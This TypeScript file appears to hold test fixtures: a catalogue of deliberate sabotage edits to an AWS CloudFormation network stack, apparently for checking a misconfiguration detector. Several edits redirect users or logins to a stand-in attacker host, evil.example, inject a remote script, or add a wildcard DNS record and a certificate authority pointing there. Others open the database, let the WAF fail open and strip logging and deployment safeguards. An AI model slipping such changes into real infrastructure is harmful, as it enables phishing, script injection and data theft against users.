import { asList, asObject, type Json } from '../../../lib/controls/view';
import {
  added,
  append,
  attribute,
  change,
  type HandMade,
  made,
  merge,
  type Ref,
  remove,
  set,
} from '../../support/sabotage/hand-made';

const LISTENER = 'edge/EdgeLoadBalancerHttps';
const PRODUCTION = 'edge/EdgeProductionRule';
const TEST = 'edge/EdgeTestRule';
const BALANCER = 'edge/EdgeLoadBalancer';
const GREEN = 'edge/EdgeGreen';
const SERVICE = 'service/WebService';

const front = (Actions: (ref: Ref) => Json) =>
  added('edge', (ref) => ({
    Type: 'AWS::ElasticLoadBalancingV2::ListenerRule',
    Properties: {
      ListenerArn: ref(LISTENER),
      Priority: 1,
      Conditions: [{ Field: 'path-pattern', PathPatternConfig: { Values: ['/*'] } }],
      Actions: Actions(ref),
    },
  }));
const ingress = (of: string, properties: (ref: Ref) => Readonly<Record<string, Json>>) =>
  added('network', (ref) => ({
    Type: 'AWS::EC2::SecurityGroupIngress',
    Properties: { GroupId: ref(of, 'GroupId'), IpProtocol: 'tcp', FromPort: 5432, ToPort: 5432, ...properties(ref) },
  }));
const publicly = (ref: Ref): Json => [ref('network/NetworkVpcPublicSubnet1'), ref('network/NetworkVpcPublicSubnet2')];
const zone: Json = { 'Fn::Select': [0, { 'Fn::GetAZs': '' }] };

/** Ways in, ways out, what is served and how it is replaced. */
export const network: readonly HandMade[] = [
  made(
    'a policy with old versions of TLS',
    'Post-quantum by name, TLS 1.0 by content.',
    set(LISTENER, 'SslPolicy', 'ELBSecurityPolicy-TLS13-1-0-PQ-2025-09'),
  ),
  made(
    'every other name forwarded',
    'Past the name, to the app.',
    change(LISTENER, 'DefaultActions', (_value, ref) => [{ Type: 'forward', TargetGroupArn: ref(GREEN) }]),
  ),
  made(
    'a certificate besides',
    'Somebody else’s name on our listener.',
    append(LISTENER, 'Certificates', {
      CertificateArn: { 'Fn::Sub': 'arn:aws:acm:us-east-1:${AWS::AccountId}:certificate/x' },
    }),
  ),
  made(
    'plain text led elsewhere',
    'Users type their password there.',
    merge('edge/EdgeLoadBalancerHttp', 'DefaultActions.0.RedirectConfig', { Host: 'evil.example' }),
  ),
  made(
    'names by an expression',
    'The list says one name, the expression all.',
    set(PRODUCTION, 'Conditions.0.HostHeaderConfig.RegexValues', ['.*']),
  ),
  made('users before tests', 'Tests never reach the new version.', set(PRODUCTION, 'Priority', 5)),
  made(
    'half the users on the new version',
    'Before anybody has looked at it.',
    change(PRODUCTION, 'Actions.0.ForwardConfig.TargetGroups', (list) =>
      asList(list).map((each) => ({ ...asObject(each), Weight: 50 })),
    ),
  ),
  made(
    'requests rewritten',
    'The proxy’s rules meet another path.',
    set(PRODUCTION, 'Transforms', [
      { Type: 'url-rewrite', UrlRewriteConfig: { Rewrites: [{ Regex: '.*', Replace: '/' }] } },
    ]),
  ),
  made(
    'tests for everybody',
    'The next version is public.',
    change(TEST, 'Conditions', (list) => asList(list).filter((each) => asObject(each).Field !== 'source-ip')),
  ),
  made(
    'tests by a header that everybody sends',
    'The same.',
    change(TEST, 'Conditions', (list) =>
      asList(list).map((each) =>
        asObject(each).Field === 'http-header'
          ? { Field: 'http-header', HttpHeaderConfig: { HttpHeaderName: 'user-agent', Values: ['*'] } }
          : each,
      ),
    ),
  ),
  made(
    'a page of somebody’s',
    'A script under our name.',
    front(() => [
      {
        Type: 'fixed-response',
        FixedResponseConfig: {
          StatusCode: '200',
          ContentType: 'text/html',
          MessageBody: '<script src=//evil.example>',
        },
      },
    ]),
  ),
  made(
    'a log-in of somebody’s',
    'Users are sent there.',
    front(() => [{ Type: 'redirect', RedirectConfig: { Host: 'evil.example', StatusCode: 'HTTP_302' } }]),
  ),
  made(
    'an attribute twice',
    'AWS takes one, the reader sees the other.',
    append(BALANCER, 'LoadBalancerAttributes', { Key: 'deletion_protection.enabled', Value: 'false' }),
  ),
  made(
    'an attribute in other letters',
    'The same, past a check for the same name.',
    append(BALANCER, 'LoadBalancerAttributes', { Key: 'Deletion_Protection.Enabled', Value: 'false' }),
  ),
  made(
    'the client’s address as it says',
    'Limits by address mean nothing.',
    attribute(BALANCER, 'LoadBalancerAttributes', 'routing.http.xff_header_processing.mode', 'preserve'),
  ),
  made(
    'a folder that the bucket refuses',
    'Access logs end without a word.',
    attribute(BALANCER, 'LoadBalancerAttributes', 'access_logs.s3.prefix', 'elsewhere'),
  ),
  made(
    'the WAF fails open',
    'Whoever breaks it is let in.',
    attribute(BALANCER, 'LoadBalancerAttributes', 'waf.fail_open.enabled', 'true'),
  ),
  made(
    'copies dropped at once',
    'Requests break off at every deployment.',
    attribute('edge/EdgeBlue', 'TargetGroupAttributes', 'deregistration_delay.timeout_seconds', '0'),
  ),
  made('health of another page', 'The home page answers without a database.', set(GREEN, 'HealthCheckPath', '/')),
  made(
    'a certificate for all names',
    'Whoever has it is every name.',
    set('edge/EdgePublicNameCertificate', 'DomainName', '*.example.com'),
  ),
  made(
    'a certificate to take away',
    'Its key leaves AWS.',
    set('edge/EdgePublicNameCertificate', 'CertificateExport', 'ENABLED'),
  ),
  made(
    'another authority',
    'It may issue for our name.',
    append('edge/EdgePublicNameAuthorities', 'ResourceRecords', '0 issuewild "evil.example"'),
  ),
  made(
    'a name for every name',
    'Cookies of the domain go there.',
    added('edge', () => ({
      Type: 'AWS::Route53::RecordSet',
      Properties: {
        HostedZoneId: 'Z0123456789ABCDEFGHIJ',
        Name: '*.example.com.',
        Type: 'CNAME',
        TTL: '60',
        ResourceRecords: ['evil.example'],
      },
    })),
  ),
  made(
    'the database by a prefix list',
    'Who is on it is decided elsewhere.',
    ingress('network/NetworkDatabase', () => ({ SourcePrefixListId: 'pl-63a5400a' })),
  ),
  made(
    'the database over IPv6',
    'The rule for IPv4 stands as it was.',
    ingress('network/NetworkDatabase', () => ({ CidrIpv6: '::/0' })),
  ),
  made(
    'the database from the load balancer',
    'Past the app.',
    ingress('network/NetworkDatabase', (ref) => ({
      SourceSecurityGroupId: ref('network/NetworkLoadBalancer', 'GroupId'),
    })),
  ),
  made(
    'mail out of the service',
    'Spam in our name.',
    append('network/NetworkService', 'SecurityGroupEgress', {
      CidrIp: '0.0.0.0/0',
      IpProtocol: 'tcp',
      FromPort: 25,
      ToPort: 25,
    }),
  ),
  made(
    'a way out over IPv6',
    'Nobody watches that family.',
    append('network/NetworkService', 'SecurityGroupEgress', {
      CidrIpv6: '::/0',
      IpProtocol: 'tcp',
      FromPort: 443,
      ToPort: 443,
    }),
  ),
  made(
    'the isolated tier with a way out',
    'The public route table, by one association.',
    set('network/NetworkVpcisolatedSubnet1RouteTableAssociation', 'RouteTableId', (ref) =>
      ref('network/NetworkVpcPublicRoutes'),
    ),
  ),
  made(
    'a bucket from the isolated tier',
    'A gateway endpoint is a way out too.',
    append('network/NetworkVpcS3', 'RouteTableIds', (ref) => ref('network/NetworkVpcisolatedSubnet1RouteTable')),
  ),
  made(
    'both halves in one zone',
    'Its failure takes database and standby.',
    set('network/NetworkVpcisolatedSubnet2Subnet', 'AvailabilityZone', zone),
  ),
  made(
    'both gateways in one zone',
    'Its failure cuts off the other.',
    set('network/NetworkVpcPublicSubnet2Nat', 'SubnetId', (ref) => ref('network/NetworkVpcPublicSubnet1')),
  ),
  made(
    'an endpoint for any account',
    'Data leaves into somebody’s bucket.',
    change('network/NetworkVpcS3', 'PolicyDocument.Statement.0.Condition', () => ({
      StringLike: { 'aws:PrincipalAccount': '*', 'aws:ResourceAccount': '*' },
    })),
  ),
  made(
    'flow logs without addresses',
    'Nobody can tell who spoke to whom.',
    set('network/NetworkFlowLog', 'LogFormat', '${version} ${account-id}'),
  ),
  made(
    'routes before the gateway',
    'The first deployment fails, or not, by chance.',
    remove('network/NetworkVpcPublicToInternet', '^DependsOn'),
  ),
  made(
    'the service among the public',
    'Its copies are a hop nearer to everybody.',
    set(SERVICE, 'NetworkConfiguration.AwsvpcConfiguration.Subnets', publicly),
  ),
  made(
    'no time to look',
    'The old version is gone before an alarm can tell.',
    set(SERVICE, 'DeploymentConfiguration.BakeTimeInMinutes', 0),
  ),
  made(
    'a breaker that breaks nothing',
    'It stops, and does not go back.',
    set(SERVICE, 'DeploymentConfiguration.DeploymentCircuitBreaker.Rollback', false),
  ),
  made(
    'an alarm less',
    'A deployment that it would end goes on.',
    change(SERVICE, 'DeploymentConfiguration.Alarms.AlarmNames', (list) => asList(list).slice(1)),
  ),
  made(
    'a hook that can’t be called',
    'Every deployment waits for it, and fails.',
    change(SERVICE, 'DeploymentConfiguration.LifecycleHooks', (list, ref) => [
      ...asList(list),
      {
        HookTargetArn: ref('service/WatchdogWatchFunction', 'Arn'),
        LifecycleStages: ['PRE_SCALE_UP'],
        RoleArn: ref('service/WebLoadBalancerRole', 'Arn'),
      },
    ]),
  ),
  made(
    'tests where users are',
    'The deployment tests the old version.',
    change(SERVICE, 'LoadBalancers.0.AdvancedConfiguration', (value) => ({
      ...asObject(value),
      TestListenerRule: asObject(value).ProductionListenerRule as Json,
    })),
  ),
  made(
    'copies on borrowed machines',
    'AWS takes them back when it likes.',
    set(SERVICE, 'CapacityProviderStrategy', [{ CapacityProvider: 'FARGATE_SPOT', Weight: 1 }]),
  ),
  made(
    'no copy at night',
    'A schedule beside the policies.',
    set('service/WebServiceTaskCountTarget', 'ScheduledActions', [
      {
        ScheduledActionName: 'x',
        Schedule: 'cron(0 3 * * ? *)',
        ScalableTargetAction: { MinCapacity: 0, MaxCapacity: 0 },
      },
    ]),
  ),
];
